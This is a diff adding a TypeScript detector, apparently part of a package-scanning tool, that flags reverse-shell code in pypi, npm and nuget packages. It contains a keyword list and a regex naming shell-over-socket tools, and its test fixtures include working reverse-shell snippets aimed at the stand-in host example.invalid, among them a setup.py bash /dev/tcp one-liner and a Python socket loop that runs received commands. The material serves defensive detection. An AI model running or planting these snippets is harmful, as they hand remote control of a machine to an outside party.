@@ -1,0 +1,103 @@
+import { deedsOf, flowsBetween } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import { codeWith, matchInCode, sight } from "./_sight.ts";
+
+const WORDS = [
+  "/dev/tcp/",
+  "dup2",
+  "bash -i",
+  "sh -i",
+  "nc -e",
+  "ncat",
+  "pty.spawn",
+  "socket",
+  "tcpclient",
+  "child_process",
+  "recv(",
+  "net.connect",
+  "net.socket",
+] as const;
+/** Shell commands that connect a shell to a socket. */
+const COMMAND =
+  /\/dev\/(?:tcp|udp)\/[\w.${}-]{1,100}\/[\w${}]{1,20}|\b(?:nc|ncat|netcat)(?:\.exe)?[ \t]{1,4}(?:-\w{1,6}[ \t]{1,4}){0,3}-\w{0,4}e[ \t]{1,4}[\w/.]{0,30}(?:sh|cmd)|mkfifo[^\n]{0,120}\b(?:nc|ncat|netcat|telnet|openssl)\b|net\.sockets\.tcpclient[^\n]{0,900}(?:iex|invoke-expression|getstream)/i;
+
+export const reverseShell: Detector = {
+  id: "reverse-shell",
+  title: "Connects a shell to a socket",
+  severity: "critical",
+  ecosystems: ["pypi", "npm", "nuget"],
+  points: 7,
+  class: "threat",
+  group: "remote-control",
+  why: `A shell's input and output are tied to a network connection, or what comes from a socket is run as a command: whoever is at the
+other end controls the machine.
+
+Security tools generate such commands for their users as text; those name many of them in one file and run none.`,
+  literals: WORDS,
+  *detect(tree) {
+    for (const file of codeWith(tree, WORDS)) {
+      const command = matchInCode(file, COMMAND);
+      if (command !== undefined) {
+        const late = file.phase === "call" || file.phase === "none";
+        yield sight(file, command.index, `connects a shell to a socket: ${command[0]}`, { share: late ? 0.65 : 1 });
+      }
+      yield* tied(file);
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: { "setup.py": "import os\nos.system('bash -i >& /dev/tcp/example.invalid/1 0>&1')\n" },
+      },
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/__init__.py":
+            "import socket, os, subprocess\ns = socket.socket()\ns.connect(('example.invalid', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
+        },
+      },
+    ],
+    passes: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py": "import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.call(['ls'])\n",
+        },
+      },
+      { ecosystem: "pypi", files: { "demo/a.py": "# bash -i >& /dev/tcp/example.invalid/1\n" } },
+    ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "from socket import *\nfrom subprocess import getoutput as g\nc = socket()\nc.connect(('example.invalid', 1))\nwhile 1:\n    q = c.recv(99).decode()\n    c.send(g(q).encode())\n",
+        },
+      },
+    ],
+  },
+};
+
+function* tied(file: Parameters<typeof deedsOf>[0]) {
+  const start = deedsOf(file, "start").find((deed) =>
+    /(?:^|[/\s"'])(?:ba|z|da)?sh\b|cmd(?:\.exe)?\b|powershell/i.test(deed.text),
+  );
+  const connects = deedsOf(file, "socket")[0];
+  if (
+    file.has("dup2") &&
+    connects !== undefined &&
+    (start !== undefined || file.has("pty.spawn")) &&
+    /dup2\s{0,4}\(\s{0,4}\w{1,60}\.fileno/.test(file.text)
+  ) {
+    yield sight(file, connects.offset, "ties the input and output of a shell to a socket", { phase: connects.phase });
+    return;
+  }
+  for (const { sink } of flowsBetween(file, ["socket"], ["start", "run-code"])) {
+    const late = sink.phase === "call" || sink.phase === "none";
+    yield sight(file, sink.offset, `what a socket receives is run by ${sink.what}`, {
+      phase: sink.phase,
+      share: late ? 0.7 : 1,
+    });
+  }
+}
